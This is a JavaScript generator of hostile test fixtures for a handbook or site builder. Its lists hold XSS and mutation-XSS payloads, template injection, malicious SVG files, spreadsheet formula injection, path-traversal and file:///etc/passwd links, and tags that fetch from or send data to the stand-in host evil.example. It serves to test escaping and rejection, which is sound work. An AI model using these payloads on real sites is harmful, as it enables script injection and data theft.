// A handbook whose author is an attacker: whatever an author or a file of answers can fill holds something that would run,
// fetch, or break out of where it is printed. Whatever runs calls `pwn` with the number of its payload.
//
// Out: files (path → text), and the names that have to be read as text.

const ELSEWHERE = "https://evil.example";

/** Each tries another way out: of elements, attributes, comments, templates, scripts, spreadsheets, lines. */
export const PAYLOADS = [
  "<script>pwn(0)</script>",
  "\"><img src=x onerror=pwn(1)>",
  "' autofocus onfocus=pwn(2) onmouseover=pwn(2) style=position:fixed;inset:0 x='",
  "</title></style></script><svg onload=pwn(3)><script>pwn(3)</script>",
  "--><script>pwn(4)</script><!--",
  "{{ page }} {% include \"base.html\" %} {# x #} {{ 7 * 7 }} <% 1 %> ${pwn(5)}",
  "{ $x } { -brand } { \"a\" } { NUMBER($n) } .attr = x",
  "javascript:pwn(7)//\"',",
  "]]><script>pwn(8)</script><![CDATA[",
  "\u202e\u2066evil\u200b\u200d\u200f\ufeff\u2028x\u2029<b onclick=pwn(9)>",
  "&lt;script&gt;pwn(10)&lt;/script&gt; &#60;img src=x onerror=pwn(10)&#62; &amp;lt;b&amp;gt;",
  "`;pwn(11);//\\ \\u003cscript>pwn(11)\\u003c/script>",
  "</textarea></noscript></template></select><iframe srcdoc=\"<script>parent.pwn(12)</script>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn(13)&gt;\">",
  `<link rel=stylesheet href=${ELSEWHERE}/a.css><style>@import '${ELSEWHERE}/b.css';*{display:none!important}</style>`,
  `<base href=${ELSEWHERE}><meta http-equiv=refresh content="0;url=${ELSEWHERE}"><form action=${ELSEWHERE}><input name=attributes>`,
  "=HYPERLINK(\"javascript:pwn(16)\") +cmd|' /C calc'!A0 @SUM(1) %0d%0a::error::x",
  `${"W".repeat(400)}ไ${"ก".repeat(200)}<b>`,
  "__proto__ constructor <x id=documentElement name=body class=top><img name=getElementById>",
  "[x](javascript:pwn(19)) ![x](javascript:pwn(19)) <javascript:pwn(19)> [[persona:amira]] **b** `c` | \\",
];

/** Words of the other languages; what is not among them is borrowed. */
const TRANSLATIONS = {
  ar: { title: "عنوان", summary: "ملخص", text: "نص", book: "كتاب", word: "كلمة" },
  th: { title: "ชื่อเรื่อง", summary: "สรุป", text: "ข้อความ", book: "หนังสือ", word: "คำ" },
  tr: { title: "Başlık", summary: "Özet", text: "Yazı", book: "Kitap", word: "Işık" },
};

/** Text for each field that asks, with every payload in turn; the same order in each handbook. */
function names() {
  let next = 0;
  return (label) => `${label} ${PAYLOADS[next++ % PAYLOADS.length]}`;
}

/** Raw HTML as authors who mean harm write it, each a block for itself. */
export const RAW = [
  "<script>pwn(100)</script>",
  "<script src=evil.js></script>",
  `<script src=${ELSEWHERE}/x.js></script>`,
  "<img src=x onerror=pwn(101)>",
  `<img src=${ELSEWHERE}/x.png srcset="${ELSEWHERE}/y.png 2x">`,
  "<svg><script>pwn(102)</script></svg>",
  "<svg/onload=pwn(103)>",
  "<svg><animate onbegin=pwn(104) attributeName=x dur=1s><set attributeName=href to=javascript:pwn(104)></svg>",
  "<svg><a xlink:href=\"javascript:pwn(105)\"><text x=20 y=20>x</text></a></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwn(106)</script></svg>#x\"/></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.pwn(107)</script>'></iframe></foreignObject></svg>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=pwn(108)>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn(109)&gt;\">",
  "<math><mi xlink:href=\"javascript:pwn(110)\">x</mi><maction actiontype=statusline#x xlink:href=javascript:pwn(110)>y</maction></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn(111)>",
  "<noscript><p title=\"</noscript><img src=x onerror=pwn(112)>\">",
  "<table><td><select><option><style></select><img src=x onerror=pwn(113)></style>",
  "<xmp><p title=\"</xmp><img src=x onerror=pwn(114)>\">",
  "<template><script>pwn(115)</script></template><div><template shadowrootmode=open><img src=x onerror=pwn(115)></template></div>",
  "<style>*{background:url(" + ELSEWHERE + "/c)} main{display:none}</style>",
  `<link rel=stylesheet href=${ELSEWHERE}/d.css><link rel=preload as=script href=${ELSEWHERE}/e.js>`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}"><meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<form action=${ELSEWHERE} id=f><input name=x autofocus onfocus=pwn(116)><button formaction=javascript:pwn(116)>go</button></form>`,
  "<iframe srcdoc='<script>parent.pwn(117)</script>'></iframe><iframe src=javascript:parent.pwn(117)></iframe>",
  `<object data="data:text/html,<script>pwn(118)</script>"></object><embed src=${ELSEWHERE}/x.swf>`,
  `<video src=${ELSEWHERE}/v onerror=pwn(119) autoplay><source onerror=pwn(119) src=x></video><audio src=x onerror=pwn(119)>`,
  "<details ontoggle=pwn(120) open><summary onclick=pwn(120)>x</summary></details>",
  "<div style=\"position:fixed;inset:0;background:url(" + ELSEWHERE + "/s)\" onpointerenter=pwn(121)>over everything</div>",
  "<div class=\"top search skip site-head\" id=\"page:search\" role=dialog aria-hidden=true data-search-open data-set-theme=dark>theme's names</div>",
  "<a id=cookie name=cookie href=\"#\"></a><img name=querySelector><div id=documentElement></div><form name=body></form>",
  "<a href=\"javascript:pwn(122)\">a</a> <a href=\"jav&#x09;ascript:pwn(122)\">b</a> <a href=\"&#1;javascript:pwn(122)\">c</a> <a href=\" javascript&colon;pwn(122)\">d</a>",
  "<a href=\"JaVaScRiPt:pwn(123)\">a</a> <a href=vbscript:pwn(123)>b</a> <a href=\"data:text/html,<script>pwn(123)</script>\">c</a>",
  "<a href=\"java\nscript:pwn(124)\">a</a> <a href='//evil.example/x'>b</a> <a href=\"blob:null/x\" ping=https://evil.example/ping>c</a>",
  "<details open><summary>half <b title='",
  "<!-- > <script>pwn(125)</script> --!><script>pwn(125)</script> -->",
  "<![CDATA[<script>pwn(126)</script>]]>",
  "<?php echo 1 ?><script>pwn(127)</script>",
  "<a href=x title='\"><script>pwn(128)</script>'>title</a><abbr title=\"&lt;script&gt;pwn(128)&lt;/script&gt;\">y</abbr>",
  "<img alt='\"><script>pwn(129)</script>' title=\"`\"onerror=pwn(129) src=`x`>",
  "<p dir='\"><img src=x onerror=pwn(130)>' lang='</p><script>pwn(130)</script>'>dir</p>",
  "<isindex action=javascript:pwn(131) type=image><marquee onstart=pwn(131)>m</marquee><keygen autofocus onfocus=pwn(131)>",
  "<x-y onclick=pwn(132) contenteditable onbeforeinput=pwn(132) tabindex=1 accesskey=x>own</x-y>",
  "<dialog open onclose=pwn(133)>d</dialog><div popover id=p onbeforetoggle=pwn(133)>p</div><button popovertarget=p>b</button>",
];

/** Markdown that leads, or seems to lead, where it should not; what is refused as an error stands in `REFUSED`. */
const MARKDOWN = [
  "# First <script>pwn(200)</script> {#x onclick=pwn(200)}",
  "## {{ book.title }} {% raw %} \" ' ><img src=x onerror=pwn(201)>",
  "## constructor\n\n## __proto__\n\n## documentElement\n\n## ../../x?y#z&\"'<>",
  "Text {{ 7 * 7 }} {% if x %} ${pwn(202)} { $x } \u202eevil\u202c \u200b\u200d \u2028 &#0; &#x202e; &lt;script&gt;pwn(202)&lt;/script&gt;",
  "```\"><script>pwn(203)</script>\n</code></pre><script>pwn(203)</script>\n```",
  "```html\n<script>pwn(204)</script>\n<img src=x onerror=pwn(204)>\n```",
  "```js onload=pwn(205) class=\"x\"\n`</script><script>pwn(205)</script>`\n```",
  "```rust,\"onclick=pwn(206)\nfn x<'a>() {} // </pre>\n```",
  "`<script>pwn(207)</script>` and ``{{ ` }}``",
  "A note[^\"onclick=pwn(208)] and[^<b>].\n\n[^\"onclick=pwn(208)]: <script>pwn(208)</script> {{ x }}\n\n[^<b>]: \u2028",
  "![\"><script>pwn(209)</script>](dot.svg \"' onerror=pwn(209) x='\")",
  "[\"><img src=x onerror=pwn(210)>](https://example.com/\"onmouseover=pwn(210)/<script> \"' onclick=pwn(210) '\")",
  "<https://example.com/?q=<script>pwn(211)> <a@b.c\"onclick=pwn(211)> [m](mailto:a@b.c?subject=%22%3E%3Cscript%3E)",
  "| <script>pwn(212)</script> | \" onclick=pwn(212) |\n|---|---|\n| {{ x }} | </td></table><svg onload=pwn(212)> |",
  "> [!NOTE] <script>pwn(213)</script>\n> </aside><script>pwn(213)</script>",
  "Term <script>pwn(214)</script>\n: Definition \" onclick=pwn(214) {{ x }}",
  "- [ ] task <input onfocus=pwn(215) autofocus>\n- [x] {% x %}",
  `Long ${"x".repeat(3000)} \u0e01${"\u0e31".repeat(300)} Z${"\u0300".repeat(300)}`,
];

/** Drawings that don't look it. Each is refused, or does nothing when a reader opens it by itself. */
const open = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"9\" height=\"9\"";
export const DRAWINGS = {
  "script.svg": `${open}><script>pwn(300)</script></svg>`,
  "upper.svg": `${open}><SCRIPT>pwn(301)</SCRIPT></svg>`,
  "handler.svg": `${open} onload="pwn(302)"/>`,
  "spaced.svg": `${open} onload\n=\n'pwn(303)'/>`,
  "prefixed.svg": `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>pwn(304)</s:script></s:svg>`,
  "foreign.svg": `${open}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="pwn(305)"><script>pwn(305)</script></body></foreignObject></svg>`,
  "xhtml.svg": `<html xmlns="http://www.w3.org/1999/xhtml"><script>pwn(306)</script></html>`,
  "entity.svg": `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>pwn(307)</script>">]>${open}>&x;</svg>`,
  "attlist.svg": `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "pwn(308)">]>${open}/>`,
  "sheet.svg": `<?xml-stylesheet href="data:text/xsl,x" type="text/xsl"?>${open}/>`,
  "set.svg": `${open}><a id="a"><set attributeName="href" to="javascript:pwn(309)"/><rect width="9" height="9"/></a></svg>`,
  "animate.svg": `${open}><animate onbegin="pwn(310)" attributeName="x" dur="1s"/></svg>`,
  "use.svg": `${open}><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>`,
  "link.svg": `${open}><a href="java&#115;cript:pwn(311)"><rect width="9" height="9"/></a></svg>`,
  "image.svg": `${open}><image href="${ELSEWHERE}/i.png" width="9" height="9"/></svg>`,
  "one-slash.svg": `${open}><image href="https:evil.example/i.png" width="9" height="9"/></svg>`,
  "behind-a-sign.svg": `${open}><image class=">" href="${ELSEWHERE}/i.png" width="9" height="9"/></svg>`,
  "turned.svg": `${open}><image width="9" height="9"><set attributeName="href" to="${ELSEWHERE}/i.png"/></image></svg>`,
  "escaped-fill.svg": `${open}><rect style="background:u\\72l(${ELSEWHERE}/i.png);mask-image:u\\72l(${ELSEWHERE}/i.png)" width="9" height="9"/></svg>`,
  "relative-scheme.svg": `${open}><image xlink:href="//evil.example/i.png" width="9" height="9"/></svg>`,
  "import.svg": `${open}><style>@import "${ELSEWHERE}/i.css";</style></svg>`,
  "escaped-import.svg": `${open}><style>@\\69mport "${ELSEWHERE}/j.css";</style></svg>`,
  "background.svg": `${open}><style>rect{fill:url(${ELSEWHERE}/f.svg#x)}</style><rect width="9" height="9"/></svg>`,
  "escaped-background.svg": `${open}><style>svg{background:u\\72l(${ELSEWHERE}/k.png)}</style></svg>`,
  "image-set.svg": `${open}><style>svg{background:image-set("${ELSEWHERE}/l.png" 1x)}</style></svg>`,
  "cursor.svg": `${open}><style>svg{background-image:url( "https:${"\\"}2f/evil.example/m.png")}</style></svg>`,
  "font.svg": `${open}><style>@font-face{font-family:x;src:url('${ELSEWHERE}/x.woff2')}text{font-family:x}</style><text y="9">x</text></svg>`,
  "filter.svg": `${open}><filter id="f"><feImage href="${ELSEWHERE}/n.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  "tref.svg": `${open}><tref xlink:href="${ELSEWHERE}/o.svg#x"/><mask id="m"/><rect mask="url(${ELSEWHERE}/p.svg#m)" width="9" height="9"/></svg>`,
  "audio.svg": `${open}><audio xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="pwn(312)"/></svg>`,
  "utf16.svg": Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${open}><script>pwn(313)</script></svg>`, "utf16le")]),
  "utf7.svg": `<?xml version="1.0" encoding="utf-7"?>+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI-+AD4-+ADw-script+AD4-pwn(314)+ADw-/script+AD4-+ADw-/svg+AD4-`,
  "latin.svg": Buffer.concat([Buffer.from(`<?xml version="1.0" encoding="iso-8859-1"?>${open}><!-- `), Buffer.from([0xe9]), Buffer.from(` --><script>pwn(315)</script></svg>`)]),
  "base.svg": `${open} xml:base="javascript:pwn(316)//"><a href="#x"><rect width="9" height="9"/></a></svg>`,
  "hidden.svg": `${open}><desc><![CDATA[ ]]><script>pwn(317)</script></desc></svg>`,
  "page.html": "<!doctype html><script>pwn(318)</script>",
  "page.xht": "<html xmlns='http://www.w3.org/1999/xhtml'><script>pwn(319)</script></html>",
  "code.js": "pwn(320)",
  "noending": "<!doctype html><script>pwn(321)</script>",
  "doc.pdf": "<!doctype html><script>pwn(322)</script>",
  "picture.png": "<!doctype html><script>pwn(323)</script>",
  "words.txt": "<!doctype html><script>pwn(324)</script>",
  "table.csv": "<script>pwn(325)</script>\n=1+1\n",
  "unknown.zzz": "<!doctype html><script>pwn(326)</script>",
};

/** Each refused as an error, whose message and excerpt hold what was written. */
export const REFUSED = [
  "[a](javascript:pwn(400))",
  "[b](<java\tscript:pwn(401)>)",
  "[c](&#106;avascript:pwn(402))",
  "[d](JAVASCRIPT&colon;pwn(403))",
  "[e](vbscript:pwn(404))",
  "[f](data:text/html,<script>pwn(405)</script>)",
  "![g](data:image/svg+xml,<svg/onload=pwn(406)>)",
  "<javascript:pwn(407)>",
  "[h][r]\n\n[r]: javascript:pwn(408)",
  "[i](\u0001javascript:pwn(409))",
  "[j](file:///etc/passwd)",
  "[k](\u200bjavascript:pwn(410))",
  "[[\"><script>pwn(411)</script>]]",
  "![l](../../../etc/passwd)",
  "[m](view-source:x) [n](blob:x) [o](filesystem:x) [p](feed:javascript:pwn(412))",
  "{ $x } [[{{ x }}|</pre></code><img src=x onerror=pwn(413)>]]",
];

const quoted = (value) => JSON.stringify(value).replace(/[\u2028\u2029\ufeff\u202e\u2066\u200b-\u200f\u007f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
const page = (fields, text = "") => `---\n${Object.entries(fields).map(([key, value]) => `${key}: ${quoted(value)}\n`).join("")}---\n${text}\n`;
const many = (name, label, count = 3) => Array.from({ length: count }, (_, at) => name(`${label} ${at}`));

/** The handbook: `files` by their paths, `titles` by the page that has to show them. */
export function handbook(rawHtml) {
  const name = names();
  const titles = {};
  /** Fields that every page may have, and its title kept. */
  const about = (path, label) => {
    titles[path] = name(label);
    return { title: titles[path], summary: name(`summary of ${label}`), owner: name("owner"), status: "approved", reviewed: "2026-10-01", tags: many(name, "tag", 2) };
  };
  const files = { "book.toml": book(name, rawHtml), "data/answers.csv": answers(name), ...people(name, about), ...journey(name, about) };
  const prose = [...MARKDOWN, ...RAW].join("\n\n");
  files["content/index.md"] = page(about("index.html", "home"), "Text [[visit]] [[amira|<script>pwn(500)</script>]]");
  files["content/guide/index.md"] = page(about("guide/index.html", "section"));
  files["content/guide/all.md"] = page(about("guide/all.html", "prose"), prose);
  files["content/guide/dot.svg"] = `${open}><circle r="4"/></svg>`;
  RAW.forEach((html, at) => { files[`content/guide/raw-${at}.md`] = page(about(`guide/raw-${at}.html`, `raw ${at}`), `Before\n\n${html}\n\nbehind *it* ${html.replaceAll("\n", " ")} inline\n\n## After it\n\n\`\`\`journey visit\n\`\`\``); });
  files["content/guide/\"><img src=x onerror=pwn(501)>.md"] = page(about("guide/\"><img src=x onerror=pwn(501)>.html", "file"), "Named.");
  files["content/{{ x }}/index.md"] = page(about("{{ x }}/index.html", "folder"), "Named.");
  // Addresses that are another's where nothing stands before them.
  files["content/javascript:pwn(504).md"] = page(about("javascript:pwn(504).html", "colonist"), "Named.");
  files["content/https:/evil.example/index.md"] = page(about("https:/evil.example/index.html", "colonist folder"), "Named.");
  files["content/glossary.md"] = page(about("glossary.html", "glossary"), "Term <script>pwn(502)</script>\n: Definition {{ x }}\n\n\" onmouseover=pwn(503)\n: ' onclick=pwn(503) <b>");
  for (const [lang, { title, summary, text }] of Object.entries(TRANSLATIONS)) {
    titles[`${lang}/index.html`] = name(title);
    titles[`${lang}/guide/all.html`] = name(title);
    files[`content/index.${lang}.md`] = page({ title: titles[`${lang}/index.html`], summary: name(summary) }, text);
    files[`content/guide/all.${lang}.md`] = page({ title: titles[`${lang}/guide/all.html`] }, prose);
  }
  return { files, titles };
}

function people(name, about) {
  const persona = (path, label) => page({
    ...about(path, label), role: name("role"), kind: "primary", quote: name("quote"), share: 0.5, portrait: "portrait.svg",
    demographics: Object.fromEntries(many(name, "key", 20).map((key) => [key, name("value")])),
    traits: Object.fromEntries(many(name, "trait", 5).map((key) => [key, 3])),
    ...Object.fromEntries(["goals", "needs", "motivations", "frustrations", "behaviours", "feels"].map((field) => [field, many(name, field, 4)])),
    channels: ["shop"],
  }, "Text.");
  const portrait = `${open}><circle r="4"/></svg>`;
  return {
    "content/personas/amira/index.md": persona("personas/amira/index.html", "persona"),
    "content/personas/amira/portrait.svg": portrait,
    "content/personas/elif/index.md": persona("personas/elif/index.html", "second persona"),
    "content/personas/elif/portrait.svg": portrait,
    "content/touchpoints/till.md": page({
      ...about("touchpoints/till.html", "touchpoint"), channels: ["shop"], kind: "owned",
      scores: { satisfaction: { amira: { value: 1.2, n: 40, source: name("source"), on: "2026-04-30" } } },
      evidence: [{ id: "e", kind: "survey", title: name("evidence"), on: "2026-04-30", n: 3, url: "https://example.com/\"onmouseover=pwn(510)<script>" }],
    }, "Text."),
  };
}

function journey(name, about) {
  const words = ["thinks", "feels", "pains", "frontstage", "backstage", "support"];
  const step = (id) => ({
    id, title: name("step"), touchpoints: ["till"], channel: "shop", emotion: { amira: -2, elif: 1 }, "moment-of-truth": true,
    ...Object.fromEntries(words.map((field) => [field, many(name, field, 2)])),
    evidence: [{ id: `e-${id}`, kind: "interview", title: name("evidence"), on: "2026-04-30", n: 2, url: "https://example.com/?'\"><script>pwn(520)</script>" }],
    opportunities: [
      { id: `o-${id}`, title: name("opportunity"), impact: 5, effort: 1, owner: name("owner"), status: "doing", due: "2027-01-01", moves: { metric: "own", of: "touchpoint:till", before: { value: 2, n: 4, source: name("before"), on: "2026-01-01" } } },
      { id: `p-${id}`, title: name("done"), impact: 2, effort: 3, owner: name("owner"), status: "done", done: "2026-06-01", moves: "satisfaction" },
    ],
  });
  const stage = (path, label, from, phase) => page({
    ...about(path, label), phase, goal: name("goal"), scores: { satisfaction: { value: 1.5, n: 12, source: name("source"), on: "2026-04-30" }, own: 3 },
    steps: [step(`s-${from}`), step(`s-${from + 1}`)],
  }, "Text.");
  return {
    "content/journeys/visit/index.md": page({ ...about("journeys/visit/index.html", "journey"), personas: ["amira", "elif"], state: "current", level: "customer", scenario: name("scenario"), scores: { satisfaction: 2 } },
      "```journey visit\nview: curve\npersona: amira\n```\n\n```journey\nview: network\n```"),
    "content/journeys/visit/01-first.md": stage("journeys/visit/first.html", "stage", 1, "one"),
    "content/journeys/visit/02-second.md": stage("journeys/visit/second.html", "second stage", 3, "two"),
    "content/journeys/future/index.md": page({ ...about("journeys/future/index.html", "future"), personas: ["amira", "elif"], state: "future", "future-of": "visit", scenario: name("scenario") }),
    "content/journeys/future/01-first.md": stage("journeys/future/first.html", "future stage", 1, "one"),
  };
}

function book(name, rawHtml) {
  const text = (label) => quoted(name(label));
  const languages = Object.entries(TRANSLATIONS);
  const inAll = (between = ", ") => languages.map(([lang, { word }]) => `${lang} = ${text(word)}`).join(between);
  return `[book]
title = ${text("book")}
description = ${text("description")}
authors = [${text("author")}]

[output.html]
raw-html = "${rawHtml}"
site-url = "https://example.com/"
edit-url-template = "https://example.com/edit/{path}?\\"onclick=pwn(601)<b>"
git-repository-url = "https://example.com/\\"><img src=x onerror=pwn(602)>"

[output.maps]
formats = ["svg", "pdf", "png"]

${languages.map(([lang, { book, summary }]) => `[languages.${lang}]\ntitle = ${text(book)}\ndescription = ${text(summary)}\n`).join("\n")}
[channels]
shop = { title = ${text("channel")}, ${inAll()} }

[journey]
phases = [{ id = "one", title = ${text("phase")}, ${inAll()} }, { id = "two", title = ${text("second phase")} }]
require = []

[metrics.own]
title = ${text("metric")}
${inAll("\n")}
min = 1
max = 5

[[alerts]]
metric = "satisfaction"
below = 4
severity = "note"
owner = ${text("alert owner")}

[[data]]
id = "answers"
file = "data/answers.csv"
title = ${text("data set")}
${inAll("\n")}
kind = "survey"
metric = "own"
question = ${text("question")}
questions = { ${inAll()} }
columns = { date = "day", touchpoint = "met", persona = "who", score = ${quoted(SCORE)}, comment = ${quoted(COMMENT)} }
`;
}

const SCORE = "\"><script>pwn(700)</script>{{ score }}";
const COMMENT = "' onclick=pwn(701) {{ comment }}";

/** Answers with comments that mean harm, and a column that nobody reads. */
function answers(name) {
  const cell = (text) => `"${text.replaceAll("\"", "\"\"")}"`;
  const rows = Array.from({ length: 60 }, (_, at) => ["2026-0" + (1 + (at % 9)) + "-15", "till", at % 2 ? "amira" : "elif", String(1 + (at % 5)), cell(name("comment")), cell(name("unread"))]);
  return [["day", "met", "who", cell(SCORE), cell(COMMENT), cell("<svg onload=pwn(702)>")], ...rows].map((row) => row.join(",")).join("\n") + "\n";
}
